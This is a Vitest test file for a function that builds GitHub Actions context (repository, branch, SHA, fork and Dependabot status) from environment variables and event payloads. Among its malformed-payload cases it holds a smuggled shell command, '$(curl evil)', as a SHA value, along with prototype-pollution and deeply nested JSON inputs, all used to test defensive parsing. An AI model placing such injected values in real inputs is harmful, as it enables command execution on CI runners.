import { describe, expect, test } from 'vitest'
import { UserError } from '../../src/core/errors.ts'
import { githubContext } from '../../src/github/context.ts'

const SHA = 'a'.repeat(40)
const HEAD = 'b'.repeat(40)
const BASE = 'c'.repeat(40)

const env = {
  GITHUB_REPOSITORY: 'acme/bot',
  GITHUB_REPOSITORY_ID: '1001',
  GITHUB_SERVER_URL: 'https://github.com/',
  GITHUB_API_URL: 'https://api.github.com',
  GITHUB_WORKSPACE: '/home/runner/work/bot',
  GITHUB_SHA: SHA,
  GITHUB_RUN_ID: '812',
  GITHUB_RUN_ATTEMPT: '2',
  GITHUB_WORKFLOW_REF: 'acme/bot/.github/workflows/eval.yml@refs/heads/main',
  GITHUB_ACTOR: 'dev',
}

const own = { id: 1001, name: 'bot', default_branch: 'main', owner: { login: 'acme' } }
const pull = (head: object) => ({
  repository: own,
  pull_request: {
    number: 7,
    head: { ref: 'feature', sha: HEAD, repo: own, ...head },
    base: { ref: 'release/1', sha: BASE, repo: own },
    user: { login: 'dev' },
  },
})

describe('the context of an event', () => {
  test.each([
    {
      situation: 'a pull request of the same repository',
      eventName: 'pull_request',
      ref: 'refs/pull/7/merge',
      payload: pull({}),
      expected: { headSha: HEAD, prNumber: 7, baseBranch: 'release/1', baseSha: BASE, isFork: false },
      absent: ['branch'],
    },
    {
      situation: 'a pull request from a fork',
      eventName: 'pull_request_target',
      ref: 'refs/heads/main',
      payload: pull({ repo: { id: 2002 } }),
      expected: { headSha: HEAD, prNumber: 7, isFork: true },
      absent: ['branch'],
    },
    {
      situation: 'a pull request whose fork was deleted',
      eventName: 'pull_request',
      ref: 'refs/pull/7/merge',
      payload: pull({ repo: null }),
      expected: { prNumber: 7, isFork: true },
      absent: [],
    },
    {
      situation: 'a merge queue',
      eventName: 'merge_group',
      ref: 'refs/heads/gh-readonly-queue/main/pr-7',
      payload: { repository: own, merge_group: { head_sha: HEAD, base_sha: BASE, base_ref: 'refs/heads/main' } },
      expected: { headSha: HEAD, baseBranch: 'main', baseSha: BASE, isFork: false },
      absent: ['prNumber'],
    },
    {
      situation: 'a run that another run started',
      eventName: 'workflow_run',
      ref: 'refs/heads/main',
      payload: {
        repository: own,
        workflow_run: {
          head_sha: HEAD,
          head_repository: own,
          pull_requests: [{ number: 7, base: { ref: 'main', sha: BASE } }],
        },
      },
      expected: { headSha: HEAD, prNumber: 7, baseBranch: 'main', baseSha: BASE, isFork: false },
      absent: ['branch'],
    },
    {
      situation: 'a run that a fork started',
      eventName: 'workflow_run',
      ref: 'refs/heads/main',
      payload: { repository: own, workflow_run: { head_sha: HEAD, head_repository: { id: 2 }, pull_requests: [] } },
      expected: { headSha: HEAD, isFork: true },
      absent: ['prNumber'],
    },
    {
      situation: 'a push',
      eventName: 'push',
      ref: 'refs/heads/main',
      payload: { repository: own, before: BASE },
      expected: {
        headSha: SHA,
        branch: 'main',
        defaultBranch: 'main',
        baseBranch: 'main',
        baseSha: BASE,
        isFork: false,
      },
      absent: ['prNumber'],
    },
    {
      situation: 'the first push of a branch',
      eventName: 'push',
      ref: 'refs/heads/feature/a',
      payload: { repository: own, before: '0'.repeat(40) },
      expected: { branch: 'feature/a', baseBranch: 'main' },
      absent: ['baseSha'],
    },
    {
      situation: 'a schedule, whose payload names no repository',
      eventName: 'schedule',
      ref: 'refs/heads/trunk',
      payload: { schedule: '0 3 * * *' },
      expected: { headSha: SHA, branch: 'trunk', defaultBranch: 'trunk', baseBranch: 'trunk' },
      absent: ['prNumber', 'baseSha'],
    },
    {
      situation: 'a start by hand',
      eventName: 'workflow_dispatch',
      ref: 'refs/heads/feature',
      payload: { repository: own, inputs: {} },
      expected: { headSha: SHA, branch: 'feature', defaultBranch: 'main' },
      absent: ['prNumber'],
    },
    {
      situation: 'a comment on a pull request',
      eventName: 'issue_comment',
      ref: 'refs/heads/main',
      payload: { repository: own, issue: { number: 7, pull_request: { url: 'x' } } },
      expected: { prNumber: 7, baseBranch: 'main', isFork: true },
      absent: ['headSha', 'branch'],
    },
    {
      situation: 'a comment on an issue',
      eventName: 'issue_comment',
      ref: 'refs/heads/main',
      payload: { repository: own, issue: { number: 7 } },
      expected: { headSha: SHA },
      absent: ['prNumber'],
    },
    {
      situation: 'a tag',
      eventName: 'push',
      ref: 'refs/tags/v1',
      payload: { repository: own, before: BASE },
      expected: { defaultBranch: 'main' },
      absent: ['branch'],
    },
  ])('$situation', ({ eventName, ref, payload, expected, absent }) => {
    const context = githubContext({ ...env, GITHUB_EVENT_NAME: eventName, GITHUB_REF: ref }, payload)
    expect(context).toMatchObject({ owner: 'acme', repo: 'bot', repositoryId: 1001, eventName, ...expected })
    for (const name of absent) expect(context).not.toHaveProperty(name)
  })

  test('what the environment says', () => {
    expect(githubContext({ ...env, GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main' }, {})).toEqual({
      owner: 'acme',
      repo: 'bot',
      repositoryId: 1001,
      serverUrl: 'https://github.com',
      apiUrl: 'https://api.github.com',
      workspace: '/home/runner/work/bot',
      eventName: 'push',
      runId: 812,
      runAttempt: 2,
      workflowPath: '.github/workflows/eval.yml',
      branch: 'main',
      headSha: SHA,
      isFork: false,
      isDependabot: false,
    })
  })

  test.each([
    { situation: 'its own run', change: { GITHUB_ACTOR: 'dependabot[bot]' }, payload: pull({}) },
    {
      situation: 'a run that somebody else started again',
      change: {},
      payload: { ...pull({}), pull_request: { ...pull({}).pull_request, user: { login: 'dependabot[bot]' } } },
    },
  ])('Dependabot: $situation', ({ change, payload }) => {
    const context = githubContext({ ...env, GITHUB_EVENT_NAME: 'pull_request', ...change }, payload)
    expect(context).toMatchObject({ isDependabot: true, isFork: false })
  })

  test.each([
    ['null', null],
    ['a text', 'pull_request'],
    ['a list', [1, 2]],
    ['a number where an object is due', { pull_request: 7, repository: 'x', workflow_run: true }],
    ['lists where texts are due', pull({ sha: [HEAD], ref: {}, repo: [] })],
    ['a sha that is a command', pull({ sha: '$(curl evil)', repo: own })],
    ['a deep nest', JSON.parse(`${'{"pull_request":'.repeat(500)}1${'}'.repeat(500)}`)],
    ['a prototype', JSON.parse('{"__proto__":{"isFork":false},"constructor":{"pull_request":1}}')],
  ])('a payload that is %s loses only what cannot be read', (_name, payload) => {
    const context = githubContext({ ...env, GITHUB_EVENT_NAME: 'pull_request' }, payload)
    expect(context.headSha).toMatch(/^[0-9a-f]{40}$/)
    expect([true, false]).toContain(context.isFork)
  })

  test('a pull request without its payload keeps what the environment says of it', () => {
    const said = { GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/7/merge', GITHUB_BASE_REF: 'release/1' }
    expect(githubContext({ ...env, ...said }, {})).toMatchObject({ prNumber: 7, baseBranch: 'release/1', isFork: true })
  })

  test('a pull request that cannot be read counts as a fork', () => {
    expect(githubContext({ ...env, GITHUB_EVENT_NAME: 'pull_request' }, { pull_request: 'no' }).isFork).toBe(true)
  })

  test.each(['', 'acme', 'a/b/c', '/bot'])('GITHUB_REPOSITORY=%j is an error with a cure', (name) => {
    const attempt = () => githubContext({ ...env, GITHUB_REPOSITORY: name }, {})
    expect(attempt).toThrow(UserError)
    expect(attempt).toThrow(/GITHUB_REPOSITORY/)
  })

  test.each([
    ['acme/bot/.github/workflows/a.yaml@refs/pull/7/merge', '.github/workflows/a.yaml'],
    ['ACME/Bot/.github/workflows/a.yml@refs/heads/x@y.yml@z', '.github/workflows/a.yml'],
    ['other/repo/.github/workflows/a.yml@main', undefined],
    ['', undefined],
  ])('the workflow of %j is %j', (ref, expected) => {
    expect(githubContext({ ...env, GITHUB_WORKFLOW_REF: ref }, {}).workflowPath).toBe(expected)
  })
})
